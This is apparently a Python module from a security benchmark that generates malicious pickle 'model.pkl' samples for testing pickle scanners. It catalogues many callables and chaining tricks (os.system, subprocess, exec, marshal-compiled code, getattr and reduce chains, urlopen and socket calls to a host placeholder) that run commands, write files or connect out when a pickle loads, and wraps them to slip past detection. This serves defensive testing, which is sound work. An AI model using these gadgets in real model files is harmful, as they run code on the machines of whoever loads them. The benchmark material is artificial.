"""Callables that run code, write, read or connect when a pickle calls them."""

from __future__ import annotations

import marshal
import random
from collections.abc import Iterator

from bench.corpus.unit import COMMAND, HOST, MARKER, Family, Unit
from bench.corpus.writers import opcodes as op

PICKLE = Family("pickle_gadgets", "pickle.load")
CODE = f"import os; os.system('{COMMAND}')"
EXPRESSION = f"__import__('os').system('{COMMAND}')"
URL = f"http://{HOST}/stage"
Call = tuple[str, str, tuple[object, ...]]

# (module, attribute, plain arguments): one call is the whole attack.
DIRECT: tuple[Call, ...] = (
    ("os", "system", (COMMAND,)),
    ("posix", "system", (COMMAND,)),
    ("os", "popen", (COMMAND,)),
    ("os", "execvp", ("true", ["true"])),
    ("os", "posix_spawn", ("/bin/true", ["true"], {})),
    ("os", "spawnvp", (0, "touch", ["touch", MARKER])),
    ("os", "putenv", ("LD_PRELOAD", "/tmp/none.so")),
    ("os", "remove", (MARKER,)),
    ("os", "symlink", ("/etc/passwd", MARKER)),
    ("os", "mkdir", (MARKER,)),
    ("subprocess", "run", (["touch", MARKER],)),
    ("subprocess", "call", (["touch", MARKER],)),
    ("subprocess", "check_output", (["touch", MARKER],)),
    ("subprocess", "getoutput", (COMMAND,)),
    ("subprocess", "Popen", (["touch", MARKER],)),
    ("pty", "spawn", (["true"],)),
    ("builtins", "eval", (EXPRESSION,)),
    ("builtins", "exec", (CODE,)),
    ("builtins", "open", (MARKER, "w")),
    ("io", "FileIO", (MARKER, "w")),
    ("_io", "open", (MARKER, "x")),
    ("runpy", "run_path", ("/dev/null",)),
    ("runpy", "_run_code", ("open('corpus-marker', 'w')", {})),
    ("timeit", "timeit", (CODE, "pass", None, 1)),
    ("timeit", "main", (["-n", "1", "-r", "1", CODE],)),
    ("cProfile", "run", (CODE,)),
    ("profile", "run", (CODE,)),
    ("pdb", "run", ("open('corpus-marker', 'w')",)),
    ("code", "interact", ()),
    ("doctest", "debug_script", (CODE,)),
    ("webbrowser", "open", (f"file:///{MARKER}",)),
    ("urllib.request", "urlopen", (URL,)),
    ("urllib.request", "urlretrieve", (URL, MARKER)),
    ("socket", "create_connection", ([HOST, 443],)),
    ("ctypes", "CDLL", (f"/tmp/{MARKER}.so",)),
    ("_ctypes", "dlopen", (f"/tmp/{MARKER}.so", 1)),
    ("logging", "FileHandler", (MARKER,)),
    ("shutil", "copyfile", ("/etc/hostname", MARKER)),
    ("shutil", "rmtree", (f"/tmp/no-such-{MARKER}",)),
    ("shutil", "unpack_archive", (f"/tmp/{MARKER}.zip", ".")),
    ("site", "addsitedir", ("/tmp",)),
    ("pydoc", "pipepager", ("text", COMMAND)),
    ("multiprocessing.util", "spawnv_passfds", (b"/bin/true", [b"true"], ())),
    ("distutils.file_util", "write_file", (MARKER, ["x"])),
    ("distutils.spawn", "spawn", (["touch", MARKER],)),
    ("venv", "create", (MARKER,)),
    ("ensurepip", "_run_pip", (["--version"],)),
    ("pip", "main", (["--version"],)),
    ("lib2to3.pgen2.grammar", "Grammar", ()),
    ("idlelib.run", "show_socket_error", ("x", "y")),
    ("imaplib", "IMAP4_stream", (COMMAND,)),
    ("test.support.script_helper", "assert_python_ok", ("-c", CODE)),
    ("zipfile", "ZipFile", (MARKER, "w")),
    ("tarfile", "open", (MARKER, "w")),
    ("sqlite3", "connect", (MARKER,)),
    ("dbm.dumb", "open", (MARKER, "c")),
    ("shelve", "open", (MARKER, "c")),
    ("tempfile", "mkdtemp", ("-model", "corpus-", ".")),
    ("mailbox", "Maildir", (MARKER,)),
    ("smtplib", "SMTP", (HOST, 25)),
    ("ftplib", "FTP", (HOST,)),
    ("xmlrpc.client", "ServerProxy", (f"http://{HOST}",)),
    ("nntplib", "NNTP", (HOST,)),
    ("trace", "main", ()),
    ("compileall", "compile_dir", ("/tmp/no-such",)),
    ("py_compile", "main", ()),
    ("asyncio", "run", (0,)),
    ("telnetlib", "Telnet", (HOST, 23)),
    ("signal", "raise_signal", (17,)),
    ("os", "kill", (0, 0)),
    ("os", "chmod", (".", 0o700)),
    ("linecache", "getlines", ("/etc/passwd",)),
    ("pathlib", "Path.touch", ()),
    ("bdb", "Bdb.run", ()),
    ("importlib", "import_module", ("antigravity",)),
    ("builtins", "__import__", ("antigravity",)),
    ("builtins", "breakpoint", ()),
)
# What a quiet or unsure outcome was seen for; kept out.
DROPPED = {
    "lib2to3.pgen2.grammar.Grammar",
    "idlelib.run.show_socket_error",
    "xmlrpc.client.ServerProxy",
    "trace.main",
    "py_compile.main",
    "asyncio.run",
    "pathlib.Path.touch",
    "bdb.Bdb.run",
    "os.kill",
    "signal.raise_signal",
    "code.interact",
    "compileall.compile_dir",
}
# Callables of common machine-learning libraries, each naming its need.
LIBRARY: tuple[Call, ...] = (
    ("numpy.f2py.crackfortran", "getlincoef", (EXPRESSION, ["x"])),
    ("numpy.f2py.crackfortran", "_eval_length", (EXPRESSION, {})),
    ("numpy.testing._private.utils", "runstring", (CODE, {})),
    ("numpy.distutils.exec_command", "exec_command", (COMMAND,)),
    ("numpy.ctypeslib", "load_library", ("libm.so.6", "/lib/x86_64-linux-gnu")),
    ("numpy", "save", (MARKER, [1])),
    ("numpy", "fromfile", ("/etc/hostname",)),
    ("numpy", "savetxt", (MARKER, [1])),
    ("numpy", "memmap", (MARKER, "uint8", "w+", 0, 16)),
    ("pandas", "read_pickle", (URL,)),
    ("pandas", "read_csv", (URL,)),
    ("joblib", "load", ("/etc/hostname",)),
    ("joblib", "dump", ([1], MARKER)),
    ("torch", "load", ("/etc/hostname",)),
    ("torch.hub", "load", (f"{HOST}/repo", "model")),
    ("torch.hub", "load_state_dict_from_url", (URL,)),
    ("torch.utils.collect_env", "run", (COMMAND,)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {})),
    ("torch.utils._config_module", "ConfigModule.load_config", ()),
    ("torch.ops", "load_library", (f"/tmp/{MARKER}.so",)),
    ("torch.classes", "load_library", (f"/tmp/{MARKER}.so",)),
    ("torch.utils.cpp_extension", "load", ("m", ["/tmp/none.cpp"])),
    ("sklearn.datasets", "load_files", ("/etc",)),
    ("scipy.io", "loadmat", ("/etc/hostname",)),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("m.C", HOST)),
    ("dill", "loads", (op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND))),)),
    ("cloudpickle", "loads", (op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND))),)),
    ("mlflow.pyfunc", "load_model", (URL,)),
)


def units(rng: random.Random) -> Iterator[Unit]:
    for module, attribute, arguments in DIRECT:
        if f"{module}.{attribute}" not in DROPPED:
            yield _unit(rng, "stdlib-call", module, attribute, arguments)
    for module, attribute, arguments in LIBRARY:
        if arguments and f"{module}.{attribute}" not in DROPPED:
            yield _unit(rng, "library-call", module, attribute, arguments)
    for variant, body in _chains():
        yield PICKLE.bad("chained-call", variant, {"model.pkl": op.pickle4(body)})


def _unit(
    rng: random.Random, technique: str, module: str, attribute: str, arguments: tuple[object, ...]
) -> Unit:
    values = [op.value(one) for one in arguments]
    function = op.name(module, attribute) if rng.random() < 0.4 else op.stacked(module, attribute)
    body = op.call(function, *values)
    match rng.randrange(4):
        case 0:
            body = op.pickle4(body)
        case 1:
            body = op.pickle4(op.pack_dict([(op.text("scaler"), op.NONE), (op.text("hook"), body)]))
        case 2:
            body = (
                op.proto(5)
                + op.pack_tuple([op.value([rng.random() for _ in range(50)]), body])
                + b"."
            )
        case _:
            body = (
                op.proto(4)
                + body
                + b"0"
                + op.value({"classes": [0, 1], "bias": rng.random()})
                + b"."
            )
    variant = f"{module}-{attribute}".replace(".", "-").replace("_", "-").strip("-")
    return PICKLE.bad(
        technique, variant, {"model.pkl": body}, payload=f"calls {module}.{attribute}"
    )


def _chains() -> Iterator[tuple[str, bytes]]:
    command = op.text(COMMAND)
    imported = op.call(op.stacked("importlib", "import_module"), op.text("os"))
    getter = op.stacked("builtins", "getattr")
    yield "import-getattr", op.call(op.call(getter, imported, op.text("system")), command)
    caller = op.call(op.stacked("operator", "methodcaller"), op.text("system"), command)
    yield "methodcaller", op.call(caller, imported)
    getting = op.call(op.stacked("operator", "attrgetter"), op.text("system"))
    yield "attrgetter", op.call(op.call(getting, imported), command)
    partial = op.call(op.stacked("functools", "partial"), op.stacked("os", "system"), command)
    yield "partial", op.call(partial)
    pair = op.pack_list([imported, op.text("system")])
    reduced = op.call(op.stacked("functools", "reduce"), getter, pair)
    yield "reduce-getattr", op.call(reduced, command)
    for module, attribute in (
        ("pkgutil", "resolve_name"),
        ("pydoc", "locate"),
        ("logging.config", "_resolve"),
    ):
        text = "os:system" if module == "pkgutil" else "os.system"
        found = op.call(op.stacked(module, attribute), op.text(text))
        yield f"{module}-{attribute}".replace(".", "-").replace("_", "-"), op.call(found, command)
    lazy = op.call(op.stacked("builtins", "map"), op.stacked("os", "system"), op.value([COMMAND]))
    for consumer in ("list", "sum", "sorted", "max", "dict"):
        yield f"map-{consumer}", op.call(op.stacked("builtins", consumer), lazy)
    deque = op.call(op.stacked("collections", "deque"), lazy)
    yield "map-deque", deque
    code = marshal.dumps(compile(CODE, "<model>", "exec"))
    loaded = op.call(op.stacked("marshal", "loads"), op.data(code))
    function = op.call(op.stacked("types", "FunctionType"), loaded, op.EMPTY_DICT)
    yield "marshal-function", op.call(function)
    yield "marshal-exec", op.call(op.stacked("builtins", "exec"), loaded)
    compiled = op.call(
        op.stacked("builtins", "compile"), op.text(CODE), op.text("m"), op.text("exec")
    )
    yield "compile-exec", op.call(op.stacked("builtins", "exec"), compiled)
    shell = op.call(op.stacked("code", "InteractiveInterpreter"))
    yield (
        "interpreter",
        op.call(op.stacked("code", "InteractiveInterpreter.runsource"), shell, op.text(CODE)),
    )
    opened = op.call(op.stacked("builtins", "open"), op.text(MARKER), op.text("w"))
    yield "open-write", op.call(op.call(getter, opened, op.text("write")), op.text("x"))
    path = op.call(op.stacked("pathlib", "PosixPath"), op.text(MARKER))
    yield "path-write", op.call(op.stacked("pathlib", "Path.write_text"), path, op.text("x"))
    config = op.value({"version": 1, "handlers": {"a": {"()": "os.system", "command": COMMAND}}})
    yield "logging-factory", op.call(op.stacked("logging.config", "dictConfig"), config)
    classes = op.call(
        op.stacked("builtins", "type.__subclasses__"), op.stacked("builtins", "object")
    )
    yield "subclasses-exec", op.call(op.stacked("builtins", "exec"), op.text(CODE)) + b"0" + classes
    wheel = op.call(
        op.stacked("pip._internal.cli.main", "main"), op.value(["download", f"{URL}.whl"])
    )
    yield "pip-internal", wheel
    profile = op.call(op.stacked("cProfile", "Profile"))
    yield "profile-run", op.call(op.stacked("cProfile", "Profile.run"), profile, op.text(CODE))
    tracer = op.call(op.stacked("trace", "Trace"))
    yield "trace-run", op.call(op.stacked("trace", "Trace.run"), tracer, op.text(CODE))
    debugger = op.call(op.stacked("bdb", "Bdb"))
    yield "bdb-run", op.call(op.stacked("bdb", "Bdb.run"), debugger, op.text(CODE))
    table = op.call(op.stacked("builtins", "vars"), imported)
    found = op.call(op.stacked("operator", "itemgetter"), op.text("system"))
    yield "vars-itemgetter", op.call(op.call(found, table), command)
